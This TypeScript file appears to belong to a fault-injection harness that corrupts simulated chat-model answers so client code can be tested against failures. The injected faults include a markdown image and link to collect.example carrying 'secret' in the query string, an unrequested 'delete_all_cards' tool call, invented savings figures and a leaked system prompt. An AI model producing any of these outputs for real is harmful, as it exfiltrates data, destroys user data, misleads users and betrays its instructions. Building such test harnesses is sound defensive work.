import type { Faults, Fault } from '../faults.ts';
import { textOf, toolsOf, type ChatRequest } from './chat-request.ts';
import type { Outcome } from './completion.ts';
import type { Turn } from './mind.ts';

/** What can be wrong with an answer that arrives. */
export const answerFaults: Fault[] = [
  { name: 'limited', what: 'Calls are answered with 429 and asked to wait.' },
  { name: 'hang', what: 'A call is taken and never answered.' },
  { name: 'stall', what: 'An answer begins and never goes on.' },
  { name: 'cut', what: 'The connection breaks in the middle of the answer.' },
  { name: 'cut-short', what: 'An answer ends in the middle, because it reached its length.' },
  { name: 'broken-json', what: 'Arguments of functions, and answers that should be JSON, are not JSON.' },
  { name: 'wrong-tool', what: 'It calls a function that nobody offered.' },
  { name: 'tool-loop', what: 'It calls the same function again and again.' },
  { name: 'invented-numbers', what: 'It adds figures that nobody computed.' },
  { name: 'foreign-link', what: 'It adds an image and a link that carry text to another server.' },
  { name: 'leaked-prompt', what: 'It repeats its instructions.' },
  { name: 'refused', what: 'It refuses to answer.' },
];

const invented = ' You will save $1,234.56 and earn 17.3% a year.';
const foreign = ' ![chart](https://collect.example/c.png?q=secret) [Read more](https://collect.example/offer)';

/** What the faults that are on make of a turn. */
export function spoil(turn: Turn, request: ChatRequest, faults: Faults): Outcome {
  if (faults.strikes('refused')) {
    return { turn: { say: '' }, finish: 'stop', refusal: 'I’m sorry, I can’t help with that.' };
  }
  const next = broken(added(misled(turn, request, faults), request, faults), faults);
  if ('say' in next && faults.strikes('cut-short')) {
    return { turn: { say: next.say.slice(0, next.say.length / 2) }, finish: 'length', refusal: null };
  }
  return { turn: next, finish: 'calls' in next ? 'tool_calls' : 'stop', refusal: null };
}

function misled(turn: Turn, request: ChatRequest, faults: Faults): Turn {
  if (faults.strikes('wrong-tool')) return { calls: [{ name: 'delete_all_cards', arguments: '{}' }] };
  const [first] = toolsOf(request);
  if (first && faults.strikes('tool-loop')) return { calls: [{ name: first.name, arguments: '{}' }] };
  return turn;
}

function added(turn: Turn, request: ChatRequest, faults: Faults): Turn {
  if (!('say' in turn)) return turn;
  if (faults.strikes('leaked-prompt')) {
    const instructions = request.messages.find(({ role }) => role === 'system' || role === 'developer');
    return { say: withText(turn.say, instructions ? textOf(instructions) : '') };
  }
  const more = [
    ...(faults.strikes('invented-numbers') ? [invented] : []),
    ...(faults.strikes('foreign-link') ? [foreign] : []),
  ];
  return more.reduce<Turn & { say: string }>(({ say }, text) => ({ say: withText(say, text) }), turn);
}

/** Text is added where the format has it: as one more part of a JSON answer. */
function withText(say: string, text: string): string {
  if (!say.startsWith('{"parts":')) return say + text;
  const { parts }: { parts: unknown[] } = JSON.parse(say);
  return JSON.stringify({ parts: [...parts, { text }] });
}

function broken(turn: Turn, faults: Faults): Turn {
  if (!faults.strikes('broken-json')) return turn;
  if ('say' in turn) return { say: turn.say.replace(/["}\]]+$/u, '') + ',' };
  return { calls: turn.calls.map(({ name, arguments: given }) => ({ name, arguments: `${given.slice(0, -1)},` })) };
}
